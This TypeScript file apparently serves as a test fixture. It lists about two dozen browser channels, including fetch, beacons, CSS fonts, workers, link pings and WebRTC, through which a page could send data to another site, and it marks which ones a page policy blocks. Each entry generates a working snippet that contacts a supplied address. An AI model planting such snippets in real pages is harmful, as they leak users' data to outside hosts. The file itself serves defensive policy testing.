/** A way by which a page could send words to another site, with what a browser does about it in a page of ours. */
export type WayOut = {
  name: string;
  /** Code that tries it. `to`: an address of another site. `udp`: a port of this machine that hears WebRTC. */
  code: (to: string, udp: number) => string;
  /** What refuses it in a page of ours. `person`: no policy does, since it is a person who goes elsewhere; `markup`: no policy does, but it needs markup or code that we do not have. */
  refusedBy: 'policy' | 'person' | 'markup';
  /** Browsers in which a web page's own attempt is seen, where not in both: the other one does not do it at all. */
  only?: 'chromium' | 'firefox';
};

const add = (tag: string, set: string) =>
  `{ const one = document.createElement('${tag}'); ${set}; (document.body ?? document.documentElement).append(one); }`;
const style = (text: string) =>
  `{ const one = document.createElement('style'); one.textContent = ${JSON.stringify(text)}; const box = document.createElement('div'); box.className = 'leak'; box.textContent = 'words'; document.body.append(one, box); box.getBoundingClientRect(); }`;

/** Every way that was thought of. What a hostile portal page does on its own is its own affair; the same from our pages must not go. */
export const waysOut: readonly WayOut[] = [
  {
    name: 'fetch',
    code: (to) => `fetch('${to}', { method: 'POST', body: 'words', mode: 'no-cors' }).catch(() => 0)`,
    refusedBy: 'policy',
  },
  {
    name: 'XMLHttpRequest',
    code: (to) => `{ const one = new XMLHttpRequest(); one.open('GET', '${to}'); one.send(); }`,
    refusedBy: 'policy',
  },
  {
    name: 'a web socket',
    code: (to) => `try { new WebSocket('${to.replace('http', 'ws')}') } catch {}`,
    refusedBy: 'policy',
  },
  { name: 'an event source', code: (to) => `new EventSource('${to}')`, refusedBy: 'policy' },
  { name: 'a beacon', code: (to) => `navigator.sendBeacon('${to}', 'words')`, refusedBy: 'policy' },
  { name: 'a picture', code: (to) => `new Image().src = '${to}'`, refusedBy: 'policy' },
  {
    name: 'sound',
    code: (to) => add('audio', `one.preload = 'auto'; one.src = '${to}'`),
    refusedBy: 'policy',
  },
  { name: 'a script', code: (to) => add('script', `one.src = '${to}'`), refusedBy: 'policy' },
  { name: 'an imported script', code: (to) => `import('${to}').catch(() => 0)`, refusedBy: 'policy' },
  {
    name: 'a style sheet',
    code: (to) => add('link', `one.rel = 'stylesheet'; one.href = '${to}'`),
    refusedBy: 'policy',
  },
  {
    name: 'a picture named in a style',
    code: (to) => style(`.leak { background: url(${to}) }`),
    refusedBy: 'policy',
  },
  { name: 'a style that a style brings', code: (to) => style(`@import url(${to});`), refusedBy: 'policy' },
  {
    name: 'a font',
    code: (to) => style(`@font-face { font-family: leak; src: url(${to}) } .leak { font-family: leak }`),
    refusedBy: 'policy',
  },
  { name: 'a frame', code: (to) => add('iframe', `one.src = '${to}'`), refusedBy: 'policy' },
  {
    name: 'an object',
    code: (to) => add('object', `one.type = 'text/html'; one.data = '${to}'`),
    refusedBy: 'policy',
  },
  {
    name: 'a form',
    code: (to) =>
      `{ const inside = document.createElement('iframe'); inside.name = 'inside'; const one = document.createElement('form'); one.method = 'post'; one.target = 'inside'; one.action = '${to}'; document.body.append(inside, one); setTimeout(() => one.submit()); }`,
    refusedBy: 'policy',
    only: 'chromium',
  },
  {
    name: 'a script that a worker imports',
    code: (to) => `new Worker(URL.createObjectURL(new Blob(["importScripts('${to}')"])))`,
    refusedBy: 'policy',
  },
  {
    name: 'a fetch by a worker',
    code: (to) => `new Worker(URL.createObjectURL(new Blob(["fetch('${to}', { mode: 'no-cors' })"])))`,
    refusedBy: 'policy',
  },
  {
    name: 'a page fetched ahead',
    code: (to) => add('link', `one.rel = 'prefetch'; one.href = '${to}'`),
    refusedBy: 'policy',
  },
  {
    name: 'a module fetched ahead',
    code: (to) => add('link', `one.rel = 'modulepreload'; one.href = '${to}'`),
    refusedBy: 'policy',
  },
  {
    name: 'a picture fetched ahead',
    code: (to) => add('link', `one.rel = 'preload'; one.as = 'image'; one.href = '${to}'`),
    refusedBy: 'policy',
  },
  {
    name: 'the ping of a link',
    code: (to) =>
      add(
        'a',
        `one.href = '#here'; one.ping = '${to}'; one.textContent = 'link'; document.body.append(one); one.click()`,
      ),
    refusedBy: 'policy',
    only: 'chromium',
  },
  {
    name: 'a connection opened ahead',
    code: (to) => add('link', `one.rel = 'preconnect'; one.href = '${to.replace('http:', 'https:')}'`),
    refusedBy: 'markup',
    only: 'chromium',
  },
  {
    name: 'WebRTC',
    code: (_, udp) =>
      `{ const one = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); one.createDataChannel('words'); one.createOffer().then((offer) => one.setLocalDescription(offer)).catch(() => 0); }`,
    refusedBy: 'markup',
    only: 'chromium',
  },
  { name: 'a new window', code: (to) => `window.open('${to}')`, refusedBy: 'person' },
  { name: 'going elsewhere', code: (to) => `location.href = '${to}'`, refusedBy: 'person' },
];
